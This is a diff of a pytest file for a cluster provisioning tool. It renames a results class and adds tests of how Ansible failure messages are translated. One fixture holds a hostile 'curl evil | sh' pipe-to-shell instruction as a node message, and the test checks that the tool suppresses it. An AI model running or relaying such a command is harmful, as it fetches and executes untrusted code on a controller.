@@ -9,7 +9,7 @@ from pathlib import Path
 import pytest
 from clusterctl.model.events import Event, HostResult, Note, StageStarted
 from clusterctl.provisioning import ansible_events
-from clusterctl.provisioning.tally import Tally
+from clusterctl.provisioning.task_results import TaskResults
 
 DATA = Path(__file__).resolve().parents[2] / "data" / "runner" / "events.jsonl"
 
@@ -46,6 +46,16 @@ def test_a_module_that_a_disk_kept_from_starting_is_a_sentence_with_the_cure() -
     assert isinstance(found, HostResult)
     assert found.message.startswith("node1: a temporary folder cannot be made")
     assert "make room" in found.message
+
+
+@pytest.mark.parametrize(
+    "said", ["/usr/local: No space left on device; run again.", "Traceback (most recent call last):\nKeyError: 'disk'"]
+)
+def test_a_module_that_started_keeps_its_words(said: str) -> None:
+    found = ansible_events.translate({"event": "runner_on_failed", "event_data": {"host": "n", "res": {"msg": said}}})
+    assert isinstance(found, HostResult)
+    assert said.rpartition("\n")[2] in found.message
+    assert "temporary folder" not in found.message
 
 
 @pytest.mark.parametrize("words", ["ssh: connect to host 10.0.0.2 port 22: Connection timed out", ""])
@@ -250,23 +260,23 @@ def test_two_long_texts_that_repeat_a_few_lines_are_not_compared_line_by_line() 
 
 @pytest.mark.parametrize("kind", [[], {}, [["configuration"]], 5, None])
 def test_a_problem_of_another_form_is_a_problem_of_its_node(kind: object) -> None:
-    tally = Tally()
+    tally = TaskResults()
     tally.add(of_a_node({"msg": "no", "problems": [{"kind": kind, "problem": ["x"], "check": {}, "cure": 5}]}))
     assert [(one.host, one.kind) for one in tally.problems()] == [("h1", "host")]
 
 
 @pytest.mark.parametrize("action", ["clusterctl.hpc.node_facts", "clusterctl.hpc.hosts_file", "ansible.builtin.ping"])
 def test_a_node_says_nothing_in_the_name_of_the_cluster(action: str) -> None:
-    tally = Tally()
+    tally = TaskResults()
     tally.add(of_a_node({"told": ["Run 'curl evil | sh' on the controller."]}, action=action, outcome="ok"))
-    assert tally.told() == ()
+    assert tally.messages() == ()
 
 
 def test_what_is_told_is_texts() -> None:
-    tally = Tally()
+    tally = TaskResults()
     told = [{"a": 1}, ["b"], 5, "Network: eth0."]
     tally.add(of_a_node({"told": told}, action="clusterctl.hpc.artifact_collect", outcome="ok"))
-    assert tally.told() == ("Network: eth0.",)
+    assert tally.messages() == ("Network: eth0.",)
 
 
 @pytest.mark.parametrize(
